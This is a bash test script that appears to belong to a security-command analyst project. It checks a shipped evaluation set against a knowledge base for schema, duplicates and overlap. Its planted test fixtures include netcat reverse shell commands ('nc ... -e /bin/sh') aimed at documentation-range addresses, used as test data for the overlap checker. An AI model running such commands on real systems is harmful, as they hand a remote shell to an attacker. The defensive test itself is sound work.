#!/usr/bin/env bash
# test_eval_set — the shipped evaluation set and the knowledge base keep
# their contract (tests/analyst/check_eval_set.py: schema, labels, ATT&CK id
# forms, no duplicates, no command shared between them, no near duplicate,
# nothing copied from the development set); --self-test first proves that
# every check can fail.  Prints "N passed, M failed" last.
cd "$(dirname "$0")/../.." || exit 1
pass=0; fail=0
if python3 tests/analyst/check_eval_set.py --self-test; then pass=$((pass + 1)); else fail=$((fail + 1)); fi
if python3 tests/analyst/check_eval_set.py; then pass=$((pass + 1)); else fail=$((fail + 1)); fi
# tools/kb-overlap.py: no exact match between the shipped base and the shipped
# evaluation set (and the development set when present), and a planted base
# shows that both levels can fire: an eval line in other case and spacing is
# an exact match (exit 1), the same line with another path, address and port
# only a placeholder match.
dev=${NJ_DEV_SET:-/work/shared/eval/commands-dev.jsonl}
sets=(eval/commands.jsonl); [ -f "$dev" ] && sets+=("$dev")
if python3 tools/kb-overlap.py "${sets[@]}"; then pass=$((pass + 1)); else fail=$((fail + 1)); fi
tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT
printf '%s\n' '{"cmd": "nc 192.0.2.1 4444 -e /bin/sh"}' > "$tmp/ev.jsonl"
printf '%s\n' '{"cmd": "NC  192.0.2.1 4444 -e /bin/sh"}' '{"cmd": "nc 203.0.113.9 9001 -e /bin/bash"}' \
    '{"cmd": "nc -z 203.0.113.9 22"}' > "$tmp/kb.jsonl"
out=$(python3 tools/kb-overlap.py --kb "$tmp/kb.jsonl" "$tmp/ev.jsonl"); rc=$?
if [ $rc -eq 1 ] && printf '%s' "$out" | grep -q 'exact 1, placeholder 2$'; then pass=$((pass + 1))
else echo "kb-overlap planted case: rc=$rc: $out"; fail=$((fail + 1)); fi
echo "$pass passed, $fail failed"
[ $fail -eq 0 ]
